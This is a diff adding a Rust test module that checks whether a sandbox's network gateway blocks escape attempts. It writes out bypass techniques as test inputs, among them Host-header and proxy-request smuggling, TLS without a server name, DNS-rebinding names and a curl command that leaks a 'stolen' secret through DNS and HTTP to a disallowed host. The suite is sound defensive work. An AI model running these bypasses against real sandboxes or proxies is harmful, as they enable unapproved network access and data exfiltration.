@@ -1,0 +1,181 @@
+//! Ways around the gateway of N1. They need the servers and names of [`world`](crate::world), and a profile that allows what
+//! [`world::ALLOWED`](crate::world::ALLOWED) lists.
+
+use std::time::{Duration, Instant};
+
+use tierbox_core::{ExecRequest, KillReason, Network, Verdict as Decided};
+
+use super::{Canary, attacks};
+use crate::attack::{Finding, findings, install, nothing_leaked};
+use crate::case::{Verdict, ensure, skip};
+use crate::subject::Subject;
+use crate::world;
+
+attacks! { "egress":
+    e45_other_names [Isolation, Files] "Another server name, Host, URI, suffix or port than the allowed ones is refused, with the proxy and without.";
+    e45_what_hides_the_name [Isolation, Files] "TLS without a name or with an encrypted hello, and bytes that are not TLS, are refused.";
+    e46_addresses [Isolation, Files] "A name that leads to a private, local or metadata address is not dialled, though a server is there.";
+    e47_names_as_a_channel [Isolation, Files] "A query for a name that is not allowed leaves nothing outside, and no record but the gateway's address is told.";
+    e48_without_variables [Isolation, Files] "Without proxy variables an allowed name works, and nothing else does.";
+    e51_flood [Isolation, Files] "Half-open connections of one sandbox leave another its network.";
+}
+
+/// The gateway's address inside, if this is an environment with N1 in a world with servers.
+async fn gateway(s: &Subject) -> Verdict<String> {
+    if s.environment.report().tier.network() != Network::N1 || !world::is_inside() {
+        return skip("the environment has no gateway, or there are no servers for it");
+    }
+    let address = s.text("sed -n 's/^nameserver //p' /etc/resolv.conf | head -n 1").await?;
+    ensure!(!address.is_empty(), "no resolver is named inside");
+    Ok(address)
+}
+
+async fn tried(s: &Subject, args: &[&str]) -> Verdict<Vec<Finding>> {
+    findings(s, |request| request, args).await
+}
+
+/// What is allowed works: otherwise a refusal proves nothing.
+fn works(found: &[Finding]) -> Verdict {
+    let silent: Vec<&str> = found.iter().filter(|one| !one.leaked).map(|one| one.tried.as_str()).collect();
+    ensure!(silent.is_empty(), "these must work, and do not: {silent:?}");
+    Ok(())
+}
+
+async fn e45_other_names(s: Subject, _: Canary) -> Verdict {
+    let at = gateway(&s).await?;
+    let (http, proxy, tls) = (format!("{at}:80"), format!("{at}:3128"), format!("{at}:443"));
+    let end = "Connection: close||";
+    let request = |uri: &str, host: &str| format!("GET {uri} HTTP/1.1|Host: {host}|{end}");
+    let good = [request("/x", "index.test"), request("/x", "INDEX.test:80")];
+    works(&tried(&s, &["http", &http, &good[0], &good[1]]).await?)?;
+    works(&tried(&s, &["http", &proxy, &request("http://index.test/x", "index.test")]).await?)?;
+    let bad = [
+        request("/x", "other.test"),
+        request("/x", "index.test.other.test"),
+        request("/x", "xindex.test"),
+        request("/x", "files.test"),
+        request("/x", "index.test:8081"),
+        request("/x", world::SERVER),
+        request("http://other.test/x", "index.test"),
+        request("http://index.test/x", "other.test"),
+        format!("GET /x HTTP/1.1|Host: index.test|Host: other.test|{end}"),
+        // The second request of a connection is judged as the first one is.
+        format!("GET /x HTTP/1.1|Host: index.test||{}", request("/x", "other.test")),
+    ];
+    for target in [&http, &proxy] {
+        let args: Vec<&str> = ["http", target].into_iter().chain(bad.iter().map(String::as_str)).collect();
+        nothing_leaked(&tried(&s, &args).await?)?;
+    }
+    works(&tried(&s, &["tls", &tls, "direct", "index.test", "Index.TEST"]).await?)?;
+    works(&tried(&s, &["tls", &proxy, "index.test:443", "index.test"]).await?)?;
+    nothing_leaked(&tried(&s, &["tls", &tls, "direct", "other.test", "files.test", "index.test.other.test"]).await?)?;
+    nothing_leaked(&tried(&s, &["tls", &proxy, "index.test:443", "other.test", "a.files.test"]).await?)?;
+    for via in ["other.test:443", "index.test:22", "index.test:8443", "203.0.113.10:443", "[::ffff:203.0.113.10]:443"] {
+        nothing_leaked(&tried(&s, &["tls", &proxy, via, "index.test"]).await?)?;
+    }
+    refused_is_written(&s, "other.test").await
+}
+
+async fn refused_is_written(s: &Subject, name: &str) -> Verdict {
+    let decisions = s.environment.decisions().await?;
+    let refused = decisions.iter().any(|one| one.verdict == Decided::Refused && one.name == name);
+    ensure!(refused, "no decision about {name} was written");
+    ensure!(decisions.iter().all(|one| one.verdict != Decided::Allowed || one.name != name), "{name} was allowed");
+    Ok(())
+}
+
+async fn e45_what_hides_the_name(s: Subject, _: Canary) -> Verdict {
+    let at = gateway(&s).await?;
+    let (tls, proxy) = (format!("{at}:443"), format!("{at}:3128"));
+    nothing_leaked(&tried(&s, &["tls", &tls, "direct", "", "index.test,ech", world::SERVER]).await?)?;
+    nothing_leaked(&tried(&s, &["tls", &proxy, "index.test:443", "", "index.test,ech"]).await?)?;
+    // A request of plain HTTP, and another protocol, in a tunnel and on the port for TLS.
+    let request = "GET /x HTTP/1.1|Host: index.test||";
+    let tunnelled = format!("CONNECT index.test:443 HTTP/1.1|Host: index.test:443||{request}");
+    let found = tried(&s, &["http", &proxy, &tunnelled]).await?;
+    let served =
+        s.environment.decisions().await?.iter().any(|one| one.verdict == Decided::Refused && one.rule.contains("not TLS"));
+    ensure!(served, "bytes that are not TLS were not refused: {found:?}");
+    nothing_leaked(&tried(&s, &["http", &tls, "SSH-2.0-x|", "\u{1}\u{2}|"]).await?)
+}
+
+async fn e46_addresses(s: Subject, _: Canary) -> Verdict {
+    let at = gateway(&s).await?;
+    let http = format!("{at}:80");
+    for name in world::LEADS_ASTRAY {
+        let request = format!("GET /x HTTP/1.1|Host: {name}|Connection: close||");
+        nothing_leaked(&tried(&s, &["http", &http, &request]).await?)?;
+        refused_is_written(&s, name).await?;
+    }
+    Ok(())
+}
+
+async fn e47_names_as_a_channel(s: Subject, _: Canary) -> Verdict {
+    let at = gateway(&s).await?;
+    let server = format!("{at}:53");
+    works(&tried(&s, &["dns", &server, "1:index.test", "1:x.files.test"]).await?)?;
+    let secret = format!("stolen-{:x}", crate::subject::number());
+    let asked: Vec<String> = [1, 28, 16, 15, 65, 64, 255, 12]
+        .into_iter()
+        .flat_map(|kind| [format!("{kind}:{secret}.other.test"), format!("{kind}:{secret}.index.test")])
+        .chain([28, 16, 65, 64].map(|kind| format!("{kind}:index.test")))
+        .collect();
+    let args: Vec<&str> = ["dns", &server].into_iter().chain(asked.iter().map(String::as_str)).collect();
+    nothing_leaked(&tried(&s, &args).await?)?;
+    // Through the programs of the system too, and by names that the proxy is asked for.
+    s.run(ExecRequest::shell(format!(
+        "getent hosts {secret}.other.test; curl -s -m 3 http://{secret}.other.test/; \
+         curl -s -m 3 --noproxy '*' http://{secret}.other.test/; :"
+    )))
+    .await?;
+    let heard = world::heard()?;
+    ensure!(!heard.contains(&secret), "the resolver outside heard of {secret}");
+    Ok(())
+}
+
+async fn e48_without_variables(s: Subject, _: Canary) -> Verdict {
+    gateway(&s).await?;
+    if !s.run(ExecRequest::shell("command -v curl")).await?.success() {
+        return skip("curl is not in the sandbox");
+    }
+    let curl = |url: &str| {
+        ExecRequest::shell(format!("unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY; curl -sf -m 10 {url}"))
+    };
+    let good = s.run(curl("http://index.test/x")).await?;
+    ensure!(good.success() && good.stdout.text().contains("hello"), "the allowed name does not work: {good:?}");
+    for url in ["http://other.test/x", "http://203.0.113.10/x", "http://index.test:8081/x", "https://other.test/x"] {
+        ensure!(!s.run(curl(url)).await?.success(), "{url} was reached");
+    }
+    let lie = s.run(curl("--resolve index.test:80:203.0.113.10 http://index.test/x")).await?;
+    ensure!(!lie.success(), "the server was reached past the gateway");
+    Ok(())
+}
+
+async fn e51_flood(s: Subject, _: Canary) -> Verdict {
+    let at = gateway(&s).await?;
+    let other = s.another(&|_| ()).await?;
+    let there = gateway(&other).await?;
+    let program = install(&s).await?;
+    let mut floods = Vec::new();
+    for target in [format!("{at}:80"), format!("{at}:3128")] {
+        let request = ExecRequest::new([program.as_str(), "half-open", &target, "400"]).cwd(s.dir.as_str());
+        floods.push(s.spawn(request).await?);
+    }
+    // Both are in full swing when the first refusal for want of places is written.
+    s.until(Duration::from_secs(30), "the flood fills the sandbox's share", || async {
+        let decisions = s.environment.decisions().await?;
+        Ok(decisions.iter().any(|one| one.rule.contains("too many connections")))
+    })
+    .await?;
+    let start = Instant::now();
+    let request = "GET /x HTTP/1.1|Host: index.test|Connection: close||";
+    let found = tried(&other, &["http", &format!("{there}:80"), request]).await?;
+    let took = start.elapsed();
+    for flood in &mut floods {
+        flood.kill(KillReason::Cancelled);
+        s.outcome(flood).await?;
+    }
+    works(&found)?;
+    ensure!(took < Duration::from_secs(5), "the other sandbox waited {took:?}");
+    other.stop().await
+}
